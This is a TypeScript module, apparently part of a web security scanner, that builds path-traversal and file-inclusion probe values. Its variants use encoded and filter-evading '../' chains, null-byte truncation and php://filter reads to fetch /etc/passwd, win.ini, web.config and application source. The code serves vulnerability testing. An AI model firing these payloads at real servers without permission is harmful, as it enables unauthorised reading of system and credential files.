import type { Probe } from '../probe.ts';
import type { FileHints } from './file-hints.ts';
import { ownSource, PASSWD, type ServerFile, WEB_CONFIG, WEB_XML, WIN_INI } from './server-files.ts';

/** One way to write where a file is. The second round names the same file in another way. */
export type FileSpelling = {
  readonly shown: ServerFile;
  /** The part of the value that names the file; with another one there is nothing to show. */
  readonly name: string;
  value(isAgain: boolean): string;
};

const up = (step: string, isAgain: boolean) => step.repeat(isAgain ? 11 : 9);
/** Twice as far: whoever takes out "../" once leaves the rest. */
const upTwice = (isAgain: boolean) => up('../../', isAgain);
const slashes = (isAgain: boolean) => (isAgain ? '///' : '/');

const passwd = (value: FileSpelling['value']): FileSpelling => ({ shown: PASSWD, name: 'passwd', value });
const winIni = (value: FileSpelling['value']): FileSpelling => ({ shown: WIN_INI, name: 'win.ini', value });

/** What every input is tried with: a way up to the root, and down to a file of the system. */
export function firstSpellings({ isWindows }: FileHints): readonly FileSpelling[] {
  const linux = passwd((isAgain) => `${upTwice(isAgain)}etc/passwd`);
  const windows = winIni((isAgain) => `${up('..\\', isAgain)}windows\\win.ini`);
  if (isWindows === null) return [linux, windows];
  return isWindows ? [windows] : [linux];
}

/** Further ones for inputs that seem to name files, as far as the answers leave them possible. */
export function furtherSpellings(probe: Probe, hints: FileHints): readonly FileSpelling[] {
  const system = hints.isWindows === true ? onWindows(probe, hints) : onLinux(probe, hints);
  const either = hints.isWindows === null ? onWindows(probe, hints).slice(0, 1) : [];
  return [...system, ...ofPhp(probe, hints), ...ofPrograms(hints), ...either];
}

/** A path of its own cannot begin behind something else. */
const mayBegin = ({ around }: FileHints) => around === null || around.before === '';
const mayEnd = ({ around }: FileHints) => around === null || around.after !== '';

function onLinux({ original }: Probe, hints: FileHints): readonly FileSpelling[] {
  const folder = folderOf(original);
  const ending = hints.around?.after || (/\.\w{2,5}$/.exec(original)?.[0] ?? '.html');
  return [
    // From within the folder that the site's own value names, for programs that ask for its name at the beginning.
    ...(folder === null ? [] : [passwd((isAgain) => `${folder}${upTwice(isAgain)}etc/passwd`)]),
    ...(mayBegin(hints) ? [passwd((isAgain) => `${slashes(isAgain)}etc/passwd`)] : []),
    // Takes out "../../", and "../" alone.
    passwd((isAgain) => `${up('....//', isAgain)}etc/passwd`),
    // Looks at the value first and decodes it then, once and twice.
    passwd((isAgain) => `${up('..%2f', isAgain)}etc%2fpasswd`),
    passwd((isAgain) => `${up('%252e%252e%252f', isAgain)}etc%252fpasswd`),
    // The zero ends the path for programs in C; what is put behind it does not count, and the ending is the expected one.
    ...(mayEnd(hints) ? [passwd((isAgain) => `${upTwice(isAgain)}etc/passwd\0${ending}`)] : []),
    ...(folder === null ? [passwd((isAgain) => `/${upTwice(isAgain)}etc/passwd`)] : []),
    ...(mayBegin(hints) ? [passwd((isAgain) => `file://${slashes(isAgain)}etc/passwd`)] : []),
    passwd((isAgain) => `${up('..\\', isAgain)}etc\\passwd`),
  ];
}

const onWindows = (_: Probe, hints: FileHints): readonly FileSpelling[] => [
  winIni((isAgain) => `${upTwice(isAgain)}windows/win.ini`),
  ...(mayBegin(hints) ? [winIni((isAgain) => `C:${slashes(isAgain)}windows/win.ini`)] : []),
  winIni((isAgain) => `${up('....\\\\', isAgain)}windows\\win.ini`),
  winIni((isAgain) => `${up('..%5c', isAgain)}windows%5cwin.ini`),
];

const folderOf = (original: string) => /^(?!\/|\w+:)(.*\/)[^/]*$/.exec(original)?.[1] ?? null;

/**
 * The program's own source by PHP's filter (PHP manual, "php://"); as base64 it is not run. Also that of the file that the site's own
 * value names, which is there for sure, wherever the program looks for it and whatever ending it puts behind.
 */
function ofPhp({ original }: Probe, hints: FileHints): readonly FileSpelling[] {
  if (!hints.isPhp || !mayBegin(hints)) return [];
  const script = hints.script ?? 'index.php';
  const bare = script.replace(/\.\w+$/, '');
  const hasEnding = hints.around === null ? /\.\w{2,5}$/.test(original) : hints.around.after === '';
  const own = hasEnding ? script : bare;
  const named = /^[\w./-]{1,100}$/.test(original) && original !== own ? [original] : [];
  return [own, ...named].map((resource) => ({
    shown: ownSource(resource === own ? script : resource),
    name: resource,
    value: (isAgain) => `php://filter/${isAgain ? 'read=' : ''}convert.base64-encode/resource=${resource}`,
  }));
}

/**
 * What lies beside the program itself, for those that refuse a way up or are not let out of their folder. The source of what a server
 * may include is not named: a page that includes itself does so until its memory is used up.
 */
function ofPrograms({ script, isJava, isDotnet }: FileHints): readonly FileSpelling[] {
  const beside = (shown: ServerFile, folders: readonly string[]): FileSpelling[] => {
    const [, within = '', name = ''] = /^(.*\/)?([^/]+)$/.exec(shown.file) ?? [];
    return folders.map((folder) => ({
      ...{ shown, name },
      value: (isAgain) => `${folder}${within}${isAgain ? './' : ''}${name}`,
    }));
  };
  return [
    ...(script !== null && /\.(?:pl|py|rb|cgi)$/i.test(script) ? beside(ownSource(script), ['', '../']) : []),
    ...(isJava ? beside(WEB_XML, ['', '/', '../']) : []),
    ...(isDotnet ? beside(WEB_CONFIG, ['', '../']) : []),
  ];
}
